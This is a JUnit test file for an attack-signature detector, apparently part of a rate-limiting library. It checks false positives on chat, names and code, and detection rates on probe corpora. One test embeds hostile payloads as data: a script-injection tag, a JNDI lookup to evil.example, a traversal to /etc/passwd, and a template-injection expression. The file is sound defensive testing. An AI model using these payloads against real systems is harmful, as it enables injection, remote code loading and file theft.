package dev.portcullis.ratelimit.signature;

import static org.assertj.core.api.Assertions.assertThat;

import dev.portcullis.ratelimit.signature.AttackSignature.AttackClass;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Objects;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/** What is found in text that people write, and in probes that scanners and attackers send. */
class SignatureCorpusTest {
    private static final AttackSignatures SIGNATURES = AttackSignatures.published();
    private static final int MIN_DETECTED_PERCENT = 90;

    @Test
    void chat_in_many_languages_is_no_attack() throws IOException {
        List<String> chat = lines("chat.txt");
        assertThat(chat).hasSizeGreaterThan(200);
        assertThat(found(chat)).isEmpty();
    }

    @Test
    void names_addresses_of_files_and_reasons_are_no_attack() throws IOException {
        List<String> names = lines("names.txt");
        assertThat(names).hasSizeGreaterThan(100);
        assertThat(found(names)).isEmpty();
    }

    /** One is a filter of LDAP, which looks the same in an attack. */
    @Test
    void at_most_one_in_a_hundred_snippets_of_code_is_taken_for_an_attack() throws IOException {
        List<String> code = lines("code.txt");
        assertThat(code).hasSizeGreaterThan(100);
        assertThat(found(code)).hasSizeLessThanOrEqualTo(1);
    }

    @Test
    void chat_as_one_long_message_is_no_attack() throws IOException {
        assertThat(SIGNATURES.find(String.join("\n", lines("chat.txt")))).isEmpty();
    }

    @ParameterizedTest
    @EnumSource(AttackClass.class)
    void nine_of_ten_probes_of_each_class_are_found_as_such(AttackClass kind) throws IOException {
        List<String> probes = lines("probes.txt").stream()
                .map(line -> line.split("\t", 2))
                .filter(line -> line[0].equals(kind.id()))
                .map(line -> line[1])
                .toList();
        long detected = probes.stream()
                .filter(probe -> SIGNATURES
                        .find(probe)
                        .filter(signature -> signature.kind() == kind)
                        .isPresent())
                .count();
        assertThat(probes).hasSizeGreaterThan(20);
        assertThat(100 * detected / probes.size())
                .as(kind + ": " + detected + " of " + probes.size())
                .isGreaterThanOrEqualTo(MIN_DETECTED_PERCENT);
    }

    /** A probe is found wherever it stands in a text. */
    @Test
    void probe_inside_a_sentence_is_found() throws IOException {
        List<String> missed = new ArrayList<>();
        for (String probe : List.of(
                "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}", "../../../../etc/passwd", "{{7*7}}")) {
            for (String sentence : lines("chat.txt").subList(0, 30)) {
                if (SIGNATURES.find(sentence + " " + probe + " " + sentence).isEmpty()) {
                    missed.add(sentence + " " + probe);
                }
            }
        }
        assertThat(missed).isEmpty();
    }

    private static List<String> found(List<String> texts) {
        List<String> found = new ArrayList<>();
        for (String text : texts) {
            Optional<AttackSignature> signature = SIGNATURES.find(text);
            signature.ifPresent(each -> found.add(each.id() + ": " + text));
        }
        return found;
    }

    private static List<String> lines(String name) throws IOException {
        try (InputStream in = Objects.requireNonNull(SignatureCorpusTest.class.getResourceAsStream(name))) {
            return new String(in.readAllBytes(), StandardCharsets.UTF_8).lines().toList();
        }
    }
}
